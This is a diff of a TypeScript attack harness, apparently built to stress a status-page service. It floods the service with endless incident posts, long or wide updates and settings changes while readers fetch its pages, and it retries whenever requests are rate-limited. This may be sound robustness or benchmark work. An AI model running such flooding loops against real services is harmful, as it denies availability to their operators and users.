@@ -217,19 +217,30 @@ async function publishWithoutEnd(victim: Victim, clients: number): Promise<void>
     get(['/', '/history', '/history.atom', '/api/v2/incidents.json'][number % 4] ?? '/', victim.host),
   );
   const client = ownClient(victim, clients);
-  const write = async (): Promise<void> => {
+  const writeOn = async (): Promise<void> => {
     for (;;) {
       number += 1;
       const body = { title: 'Slow', body: slowText(number), publish: true };
-      // What is over a limit is refused, and tried again.
-      await client.request('POST', '/incidents', body).catch(() => pause(100));
+      await write(client, 'POST', '/incidents', body);
     }
   };
-  await Promise.all([visitors, ...Array.from({ length: clients }, write)]);
+  await Promise.all([visitors, ...Array.from({ length: clients }, writeOn)]);
 }
 
 /** The most updates of one incident, but for one. */
 const UPDATES = 299;
+
+/** What is over a limit is refused and tried again; anything else than success would be no attack. */
+async function write(
+  client: ApiClient,
+  method: 'POST' | 'PUT' | 'PATCH',
+  path: string,
+  body: object,
+): Promise<void> {
+  const response = await client.request(method, path, body).catch(() => undefined);
+  if (response === undefined || response.status === 429 || response.status === 503) await pause(100);
+  else if (response.status >= 300) throw new Error(`${method} ${path} answered ${response.status}`);
+}
 
 function ownClient({ port, host, secret }: Victim, connections: number): ApiClient {
   return new ApiClient(connectTo(port, connections), host, secret);
@@ -267,7 +278,7 @@ async function readLongIncident(victim: Victim, [id = 0, newest = 0]: readonly n
   const client = ownClient(victim, 1);
   const writer = repeat(Number.POSITIVE_INFINITY, 1, async (turn) => {
     const update = { status: 'investigating', body: longText(-turn) };
-    await client.request('PUT', `/incidents/${id}/updates/${newest}`, update).catch(() => pause(100));
+    await write(client, 'PATCH', `/incidents/${id}/updates/${newest}`, update);
   });
   await Promise.all([readers, writer]);
 }
@@ -300,7 +311,7 @@ async function readWideIncidents(victim: Victim, components: readonly number[]):
   const readers = ask(victim, 4, () => get('/api/v2/incidents.json', victim.host));
   const client = ownClient(victim, 1);
   const writer = repeat(Number.POSITIVE_INFINITY, 1, () =>
-    client.request('POST', '/incidents', wideIncident(components)).catch(() => pause(100)),
+    write(client, 'POST', '/incidents', wideIncident(components)),
   );
   await Promise.all([readers, writer]);
 }
@@ -324,7 +335,7 @@ async function changeReminders(victim: Victim): Promise<void> {
   let minutes = 0;
   await repeat(Number.POSITIVE_INFINITY, 4, async () => {
     minutes = 1 + ((minutes + 1) % 1000);
-    await client.request('PUT', '/settings', { reminder_minutes: minutes }).catch(() => pause(100));
+    await write(client, 'PUT', '/settings', { reminder_minutes: minutes });
   });
 }
 
